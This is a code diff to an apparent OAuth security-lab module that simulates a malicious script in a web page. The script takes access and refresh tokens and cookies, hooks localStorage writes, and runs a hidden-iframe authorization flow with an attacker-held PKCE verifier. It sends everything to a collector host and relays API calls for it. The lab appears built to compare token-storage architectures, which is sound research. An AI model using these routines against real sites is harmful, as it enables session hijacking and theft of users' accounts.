@@ -16,16 +16,20 @@ export const enabled = () => Boolean(config.collector);
 export const timing = { intervalMs: 3000, silentFlowMs: 8000 };
 const TOKEN_FIELDS = ["access_token", "refresh_token"];
 
-// Send what was taken to the collector: a "simple" request (text/plain, no preflight), as an attacker would.
-async function send(context, payload, record) {
-  const body = JSON.stringify({ run: context.run, architecture: context.architecture, storage: context.storage, payload, ...record });
+// Send one item to the collector's `POST /collect` ({run, kind, <kind>: value, labels}), which uses it at once, again
+// after its delays (the tab long closed) and on demand. Its CORS is open to any page: that is the attack.
+async function send(context, payload, item) {
+  const body = JSON.stringify({ run: context.run, architecture: context.architecture, storage: context.storage, payload, ...item });
   try {
-    const response = await fetch(`${config.collector}/collect`, { method: "POST", body, headers: { "Content-Type": "text/plain" }, keepalive: true });
+    const response = await fetch(`${config.collector}/collect`, { method: "POST", body, headers: { "Content-Type": "application/json" }, keepalive: true });
     return response.status;
   } catch {
     return 0;
   }
 }
+
+// One taken token as the collector's item: a refresh token names the public client it belongs to.
+const asItem = (found) => ({ kind: found.what, [found.what]: found.token, ...(found.what === "refresh_token" ? { client_id: config.clientId } : {}) });
 
 // Listen to the page's own fetch while `act` runs: the Authorization (and DPoP) header of its call of the API.
 // An in-memory token is a variable no script can name, yet every request the app makes carries it (§8).
@@ -96,8 +100,8 @@ export async function loot({ architecture, storage }) {
 // §5.1.1: take what is there once, send it, leave.
 async function stealOnce(context, payload = "steal-once") {
   const { found, notes } = await loot(context);
-  for (const item of found) await send(context, payload, { what: item.what, token: item.token, bound: item.bound });
-  if (found.length === 0) await send(context, payload, { what: "nothing", note: notes.join("; ") });
+  for (const item of found) await send(context, payload, asItem(item));
+  if (context.architecture === "bff") await send(context, payload, { kind: "cookies", cookies: document.cookie, site: config.name.toLowerCase() });
   return { got: found.map((item) => item.what), notes };
 }
 
@@ -112,11 +116,11 @@ async function stealPersistently(context) {
     for (const item of taken.found.filter((item) => !seen.has(item.token))) {
       seen.add(item.token);
       got.add(item.what);
-      await send(context, "steal-persistently", { what: item.what, token: item.token, bound: item.bound });
+      await send(context, "steal-persistently", asItem(item));
     }
   };
   await again();
-  if (seen.size === 0) await send(context, "steal-persistently", { what: "nothing", note: notes.join("; ") });
+  if (context.architecture === "bff") await send(context, "steal-persistently", { kind: "cookies", cookies: document.cookie, site: config.name.toLowerCase() });
   const setItem = Storage.prototype.setItem;
   Storage.prototype.setItem = function watched(key, value) {
     setItem.call(this, key, value);
@@ -140,12 +144,13 @@ async function newFlow(context) {
   const browser = context.architecture === "browser";
   const clientId = browser ? config.clientId : `authlab-bff-${config.name.toLowerCase()}`;
   const redirectUri = browser ? `${location.origin}/` : `${config.bff}/bff/callback`;
-  const verifier = oauth.generateRandomCodeVerifier();
+  // The attacker's PKCE: the collector keeps the verifier and hands out only its S256 challenge.
+  const pkce = await (await fetch(`${config.collector}/pkce?${new URLSearchParams({ run: context.run })}`)).json();
   const state = oauth.generateRandomState();
   const url = new URL(as.authorization_endpoint);
   url.search = new URLSearchParams({
     client_id: clientId, redirect_uri: redirectUri, response_type: "code", state, prompt: "none",
-    code_challenge: await oauth.calculatePKCECodeChallenge(verifier), code_challenge_method: "S256",
+    code_challenge: pkce.code_challenge, code_challenge_method: "S256",
   });
   const frame = Object.assign(document.createElement("iframe"), { hidden: true, title: "", src: url.href });
   frame.setAttribute("aria-hidden", "true");
@@ -166,15 +171,14 @@ async function newFlow(context) {
   });
   frame.remove();
   if (answer?.get("code")) {
-    await send(context, "new-flow", { what: "authorization_code", code: answer.get("code"), code_verifier: verifier, client_id: clientId, redirect_uri: redirectUri, iss: answer.get("iss") });
-    return { got: ["authorization_code"], notes: [] };
+    await send(context, "new-flow", { kind: "code", code: answer.get("code"), client_id: clientId });
+    return { got: ["code"], notes: [] };
   }
   const note = answer?.get("error")
     ? `the AS answered ${answer.get("error")}${answer.get("error_description") ? `: ${answer.get("error_description")}` : ""}`
     : browser
       ? `no code within ${timing.silentFlowMs / 1000} s: the frame never came back to this origin (the AS's session cookie did not reach it in a frame, or the AS refused to be framed)`
       : "the code went to the BFF's callback, another origin: out of this script's reach, and useless without the BFF's secret";
-  await send(context, "new-flow", { what: "nothing", note });
   return { got: [], notes: [note] };
 }
 
@@ -182,22 +186,23 @@ async function newFlow(context) {
 // BFF's cookie, the held token, the DPoP key) and hands back the answers. Closing the tab ends it.
 function proxy(context) {
   let stopped = false;
-  const base = `${config.collector}/proxy/${encodeURIComponent(context.run)}`;
   const tick = async () => {
     if (stopped) return;
     try {
-      const response = await fetch(`${base}?${new URLSearchParams({ architecture: context.architecture, storage: context.storage })}`);
-      if (response.status === 200) {
-        const job = await response.json();
-        const app = await import("./browser_client.js");
-        const { status, body } = await app.callApi(context, job.path ?? "jwt/me");
-        await fetch(`${base}/${encodeURIComponent(job.id)}`, { method: "POST", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ status, body }) });
+      const { commands } = await (await fetch(`${config.collector}/commands?${new URLSearchParams({ run: context.run })}`)).json();
+      const app = await import("./browser_client.js");
+      for (const command of commands ?? []) {
+        const { status, body } = await app.callApi(context, command.path.replace(/^\/api\//, ""));
+        if (status) await send(context, "proxy", { kind: "proxied", status, body: body && typeof body === "object" ? body : {} });
       }
     } catch {}
     if (!stopped) setTimeout(tick, timing.intervalMs);
   };
   tick();
-  return Promise.resolve({ got: [], notes: ["serving the collector's requests while this page is open"], stop: () => { stopped = true; } });
+  const stop = () => {
+    stopped = true;
+  };
+  return Promise.resolve({ got: [], notes: ["serving the collector's requests while this page is open"], stop });
 }
 
 const RUN = { "steal-once": stealOnce, "steal-persistently": stealPersistently, "new-flow": newFlow, proxy };
@@ -218,17 +223,21 @@ export function stopAll() {
   while (running.length) running.pop()();
 }
 
+// When this tab went away, per run (localStorage, read when the page opens again): the collector's attempts after it
+// are "used after the tab closed".
+export const closedAt = (run) => Number(localStorage.getItem(`authlab.browserApps.closed.${run}`)) || null;
 const watched = new Set();
 function watchClose(run) {
   if (watched.has(run)) return;
   watched.add(run);
-  addEventListener("pagehide", () => navigator.sendBeacon(`${config.collector}/runs/${encodeURIComponent(run)}/closed`, ""));
+  addEventListener("pagehide", () => localStorage.setItem(`authlab.browserApps.closed.${run}`, String(Date.now() / 1000)));
 }
 
-// The collector's records of a run: {run, closed_at, records: [...]} (docs/browser-apps.md), or null.
+// The collector's records of a run: {run, expires_in, items: [{kind, payload, architecture, storage, attempts,
+// worked_until, refused}]} (no secrets), or null when it does not answer.
 export async function records(run) {
   try {
-    const response = await fetch(`${config.collector}/runs/${encodeURIComponent(run)}`, { signal: AbortSignal.timeout(5000) });
+    const response = await fetch(`${config.collector}/records?${new URLSearchParams({ run })}`, { signal: AbortSignal.timeout(5000) });
     return response.ok ? await response.json() : null;
   } catch {
     return null;
